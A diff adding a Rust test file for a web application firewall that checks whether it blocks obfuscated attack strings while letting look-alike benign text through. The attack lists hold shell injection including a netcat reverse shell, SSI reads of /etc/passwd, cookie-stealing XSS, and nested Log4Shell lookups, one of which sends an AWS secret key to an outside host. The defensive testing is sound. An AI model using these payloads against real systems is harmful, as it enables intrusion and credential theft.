@@ -1,0 +1,243 @@
+#![allow(clippy::unwrap_used, clippy::expect_used)]
+//! Attack classes of issue #14 written as classes, not corpus lines: shell
+//! command injection through every splicing trick a shell resolves,
+//! server-side includes, JavaScript calls without parentheses,
+//! entity-encoded markup, Log4Shell lookups nested any way, GraphQL
+//! introspection at paranoia 2. Each list sits next to the real traffic
+//! that shares its characters and must pass.
+
+use rampart_waf::{Policy, Request, RuleSet};
+
+fn rules() -> &'static RuleSet {
+    static RULES: std::sync::OnceLock<RuleSet> = std::sync::OnceLock::new();
+    RULES.get_or_init(|| RuleSet::builtin().unwrap())
+}
+
+/// Blocked in every placement: query, form and JSON.
+fn blocked_at(v: &str, paranoia: u8) -> [bool; 3] {
+    let policy = Policy {
+        paranoia,
+        ..Policy::default()
+    };
+    let enc: String = v
+        .bytes()
+        .map(|b| {
+            if b.is_ascii_alphanumeric() || matches!(b, b'-' | b'_' | b'.' | b'~') {
+                (b as char).to_string()
+            } else {
+                format!("%{b:02X}")
+            }
+        })
+        .collect();
+    let q = format!("q={enc}");
+    let json = serde_json::json!({ "q": v }).to_string();
+    let run = |query: &str, ct: Option<&[u8]>, body: &[u8]| {
+        let mut h: Vec<(&str, &[u8])> =
+            vec![("Host", b"app.example"), ("User-Agent", b"Mozilla/5.0")];
+        if let Some(ct) = ct {
+            h.push(("Content-Type", ct));
+        }
+        let req = Request {
+            method: if body.is_empty() { "GET" } else { "POST" },
+            path: "/api/x",
+            query,
+            headers: &h,
+            body,
+            body_truncated: false,
+            version: "HTTP/1.1",
+        };
+        let v = rules().inspect(&req, &policy);
+        if v.block {
+            let why: Vec<String> = v
+                .matches
+                .iter()
+                .map(|m| format!("{} {}", m.rule_id, m.fragment))
+                .collect();
+            WHY.with(|w| w.borrow_mut().push(why.join(" | ")));
+        }
+        v.block
+    };
+    [
+        run(&q, None, b""),
+        run("", Some(b"application/x-www-form-urlencoded"), q.as_bytes()),
+        run("", Some(b"application/json"), json.as_bytes()),
+    ]
+}
+
+thread_local! {
+    static WHY: std::cell::RefCell<Vec<String>> = const { std::cell::RefCell::new(Vec::new()) };
+}
+
+fn check(attacks: &[&str], benign: &[&str], paranoia: u8) {
+    let mut bad = Vec::new();
+    for a in attacks {
+        let r = blocked_at(a, paranoia);
+        if r.contains(&false) {
+            bad.push(format!("missed {r:?}: {a}"));
+        }
+    }
+    for b in benign {
+        WHY.with(|w| w.borrow_mut().clear());
+        let r = blocked_at(b, paranoia);
+        if r.contains(&true) {
+            let why = WHY.with(|w| w.borrow().first().cloned().unwrap_or_default());
+            bad.push(format!("blocked {r:?}: {b} ({why})"));
+        }
+    }
+    assert!(bad.is_empty(), "{}", bad.join("\n"));
+}
+
+#[test]
+fn shell_injection_by_tokenizer() {
+    check(
+        &[
+            "x;c$u''at /etc/hosts",
+            "x;ca${x}t${IFS}/etc/hosts",
+            "1|w'h'o\"am\"i",
+            "a&&/???/i?",
+            "a&&/u?r/b?n/wh?ami",
+            "$(w\\hoami)",
+            "q`i\\d`",
+            "abc;uname${IFS}-a",
+            "abc\nifconfig\n",
+            ";{ls,-la,/}",
+            "1;echo QXJ7LM$((53+29))$(echo QXJ7LM)QXJ7LM",
+            "1|echo RMFPZD$((71+13))RMFPZD",
+            "z$((23*7))",
+            "x;sleep${IFS}9",
+            "x||ping -c 9 127.0.0.1||",
+            "1;WHOAMI",
+            "1&TYPE C:\\boot.ini",
+            "1;n$@c -e /bin/sh 203.0.113.5 4444",
+            "x\";id;\"",
+            "x';uname -a;'",
+            "x;l$()s -la",
+        ],
+        &[
+            "Tom & Jerry; cat videos",
+            "cats & dogs; sleep tips for puppies",
+            "php & mysql hosting; python tutorials",
+            "name | id | email",
+            "Home > Men > Hoodies | Shop",
+            "To Do | Doing | Done",
+            "R&D; find the best team",
+            "Hello ${name}, your order is ready",
+            "Total: $((price)) incl. tax",
+            "Bring: passport; ID card; echo of the past",
+            "rock|pop|jazz",
+            "Q&A: who we are; where we work",
+        ],
+        1,
+    );
+}
+
+#[test]
+fn server_side_includes() {
+    check(
+        &[
+            "<!--#exec cmd=\"ls -la\" -->",
+            "<!--#include virtual=\"/etc/passwd\" -->",
+            "<!--#include file=\"../../web.config\"-->",
+            "<!--#echo var=\"DOCUMENT_ROOT\" -->",
+            "<!--#printenv -->",
+            "<!--#config errmsg=\"x\"--><!--#exec cgi=\"/cgi-bin/x\"-->",
+            "&lt;!--#exec cmd=&quot;id&quot;--&gt;",
+            "<!-- #exec cmd=\"id\" -->",
+        ],
+        &[
+            "<!-- main content -->",
+            "<!-- #region Header -->",
+            "See section #include-files in the docs",
+            "<!--[if lt IE 9]><p>old</p><![endif]-->",
+        ],
+        1,
+    );
+}
+
+#[test]
+fn javascript_calls_without_parentheses() {
+    check(
+        &[
+            "<img src=x onerror=alert.call`1`>",
+            "<svg onload=eval.apply(null,[atob`YWxlcnQoMSk=`])>",
+            "<img src=x onerror=window?.alert?.(document.domain)>",
+            "\"><svg onload=top['al'+'ert']`1`>",
+            "<img src=x onerror=alert`${document.cookie}`>",
+            "javascript:Function`a${'alert(1)'}```",
+            "<svg onload=setTimeout`alert\\u0028document.domain\\u0029`>",
+            "<body onload=confirm.call(null,1)>",
+        ],
+        &[
+            "Use Array.prototype.map.call(list, fn) to map a NodeList",
+            "obj?.method?.() is optional chaining",
+            "Template literal: `Hello ${name}`",
+            "Call us at 555-0100, or apply online",
+        ],
+        1,
+    );
+}
+
+#[test]
+fn entity_encoded_markup() {
+    check(
+        &[
+            "&lt;script&gt;alert(1)&lt;/script&gt;",
+            "&#60;script&#62;alert(document.cookie)&#60;/script&#62;",
+            "&#x3C;img src=x onerror=alert(1)&#x3E;",
+            "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;&#40;&#49;&#41;>",
+            "<a href=\"&#106;avascript:alert(1)\">x</a>",
+            "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
+            "&lt;svg onload=alert(1)&gt;",
+        ],
+        &[
+            "Use &lt;b&gt; for bold and &lt;i&gt; for italics",
+            "Tom &amp; Jerry &#8212; the movie",
+            "Tom &amp; Jerry &lt;3 &#9829;",
+            "&lt;p&gt;Hello&lt;/p&gt;",
+        ],
+        1,
+    );
+}
+
+#[test]
+fn log4shell_lookups_in_any_nesting() {
+    check(
+        &[
+            "${jndi:ldap://203.0.113.5/a}",
+            "${${x:-j}${y:-n}di:ldap://203.0.113.5/a}",
+            "${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://x.example/a}",
+            "${${lower:j}${upper:n}${lower:d}${lower:i}:ldap://x.example/a}",
+            "${${env:NOPE:-j}ndi${env:NOPE:-:}${env:NOPE:-l}dap${env:NOPE:-:}//x.example/a}",
+            "${${a:-${b:-${c:-j}}}ndi:dns://x.example/a}",
+            "${j${k8s:k5:-ND}i:ldap://x.example/a}",
+            "${${lower:${upper:${lower:j}}}${lower:n}di:rmi://x.example/a}",
+            "${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://x.example/a}",
+            "${jn${lower:d}i:l${lower:d}ap://x.example/${env:AWS_SECRET_ACCESS_KEY}}",
+        ],
+        &[
+            "Hello ${name}, you have ${count:-0} messages",
+            "${HOME}/projects/${USER:-me}",
+            "Price: ${price} (was ${old_price})",
+            "{{#if user}}${user.name}{{/if}}",
+        ],
+        1,
+    );
+}
+
+#[test]
+fn graphql_introspection_at_paranoia_2() {
+    let attacks = [
+        "query IntrospectionQuery { __schema { queryType { name } types { name fields { name } } } }",
+        "{__schema{types{name}}}",
+        "query { __type(name: \"User\") { fields { name type { name } } } }",
+    ];
+    let benign = [
+        "query GetUser($id: ID!) { user(id: $id) { id name __typename } }",
+        "{ products(first: 10) { edges { node { id title } } } }",
+    ];
+    check(&attacks, &benign, 2);
+    // Introspection is how tools explore an API: not blocked by default.
+    for a in attacks {
+        assert_eq!(blocked_at(a, 1), [false; 3], "{a}");
+    }
+}
